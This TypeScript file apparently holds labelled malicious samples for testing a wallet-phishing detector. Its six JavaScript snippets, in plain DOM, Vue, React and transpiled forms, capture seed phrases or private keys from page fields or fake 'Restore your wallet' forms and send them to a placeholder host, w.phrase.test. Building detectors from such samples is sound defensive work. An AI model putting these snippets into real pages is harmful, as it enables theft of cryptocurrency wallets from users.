import type { MaliciousSample } from './malicious-sample.ts';

const thief = (name: string, technique: string, code: string): MaliciousSample => ({
  name,
  technique,
  family: 'malware',
  code,
});

/** Scripts that ask for what opens a wallet. */
export const walletThieves: readonly MaliciousSample[] = [
  thief(
    'phrase-counted',
    'Sends what was typed if it has as many words as a secret phrase',
    `document.querySelector('#import').onclick = () => { const words = document.querySelector('#seed').value.trim().split(/\\s+/); if (words.length === 12 || words.length === 24) fetch('https://w.phrase.test/s', { method: 'POST', body: JSON.stringify({ words }) }); };`,
  ),
  thief(
    'phrase-answered',
    'Asks for the phrase, and waits for the response as a wallet does',
    `const root = document.createElement('div'); root.innerHTML = '<h2>Restore your wallet</h2><textarea id="w" placeholder="Secret recovery phrase"></textarea><button id="go">Continue</button>'; document.body.append(root);
    root.querySelector('#go').onclick = () => { fetch('https://w.phrase.test/s', { method: 'POST', body: root.querySelector('#w').value }).then((r) => r.json()).then(() => root.remove()); };`,
  ),
  thief(
    'phrase-bound',
    'A framework binds the field to its state',
    `new Vue({ el: '#app', template: '<div><textarea v-model="recovery" placeholder="Enter your 12 word secret recovery phrase"></textarea><button @click="go">Import</button></div>', data() { return { recovery: '' }; }, methods: { go() { fetch('https://w.phrase.test/s', { method: 'POST', body: JSON.stringify({ p: this.recovery }) }); } } });`,
  ),
  thief(
    'phrase-state',
    'A component keeps the phrase in its state',
    `function App(){const [seed,setSeed]=React.useState('');const send=()=>fetch('https://w.phrase.test/s',{method:'POST',body:JSON.stringify({seed})});return React.createElement('textarea',{value:seed,onChange:e=>setSeed(e.target.value),placeholder:'Enter your seed phrase'},null)}`,
  ),
  thief(
    'phrase-compiled-state',
    'The same after a compiler for old browsers',
    `function App(){var s=r((0,n.useState)(''),2),seed=s[0],setSeed=s[1];return n.createElement('textarea',{value:seed,onChange:function(e){setSeed(e.target.value)},onBlur:function(){fetch('https://w.phrase.test/s',{method:'POST',body:seed})},placeholder:'Private key'})}`,
  ),
  thief(
    'key-recognised',
    'Recognises private keys in all fields',
    `document.addEventListener('input', (e) => { if (/^(0x)?[0-9a-fA-F]{64}$/.test(e.target.value)) new Image().src = 'https://w.phrase.test/?k=' + e.target.value; });`,
  ),
];
